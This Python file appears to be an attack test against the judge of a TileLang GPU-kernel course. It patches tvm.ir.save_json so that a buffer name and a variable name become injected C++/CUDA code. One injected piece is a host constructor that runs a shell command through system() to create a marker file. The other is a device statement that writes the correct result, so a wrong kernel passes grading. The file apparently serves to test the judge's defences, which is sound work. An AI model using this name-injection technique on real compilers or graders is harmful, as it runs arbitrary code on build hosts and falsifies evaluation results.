"""Attack: C++ and CUDA in names the judge's old gate never read: a fragment the kernel allocates and never
touches (its buffer name, shared with its data variable) and a let-bound scalar (T.Bind's variable). The file
rewrites the traced TIR on its way out of the tracer (tvm.ir.save_json) so those names close the statement they
are printed in and add code of their own: a host constructor that runs a command, and a device statement that
writes the answer. The judge names every buffer and variable itself, so gemv keeps its zeros."""

import json

import tilelang
import tilelang.language as T
from tilelang import tvm

MARKER = "tilelang-course-attack-cpp-ran"  # in TILELANG_ATTACK_DIR, were the payload run
PAYLOADS = {
    "spare": (
        'spare[1]; } }\n__attribute__((constructor)) static void tilelang_course_attack() { system("touch '
        '\\"$TILELANG_ATTACK_DIR/' + MARKER + '\\""); }\nstatic void tilelang_course_rest() { { float spare'
    ),
    "offset": "offset = 0; C[0] = A[0] * B[0]; int offset2",
}
_save_json = tvm.ir.save_json


def _with_payloads(node):
    document = json.loads(_save_json(node))
    for entry in document["nodes"]:
        if entry["type"] == "ffi.String" and entry["data"] in PAYLOADS:
            entry["data"] = PAYLOADS[entry["data"]]
    return json.dumps(document)


tvm.ir.save_json = _with_payloads


@tilelang.jit
def gemv(A, B, BLOCK_M: int, BLOCK_K: int, THREADS: int = 128):
    M, K = T.const("M, K")
    A: T.Tensor((M, K), T.float16)
    B: T.Tensor((K,), T.float16)
    C = T.empty((M,), T.float16)
    with T.Kernel(T.ceildiv(M, BLOCK_M), threads=THREADS) as bx:
        spare = T.alloc_fragment((BLOCK_M,), T.float32)  # noqa: F841 (allocated, never used)
        offset = bx * BLOCK_M
        for i in T.Parallel(BLOCK_M):
            C[offset + i] = T.float16(0)  # the wrong answer every attack tries to pass off
    return C
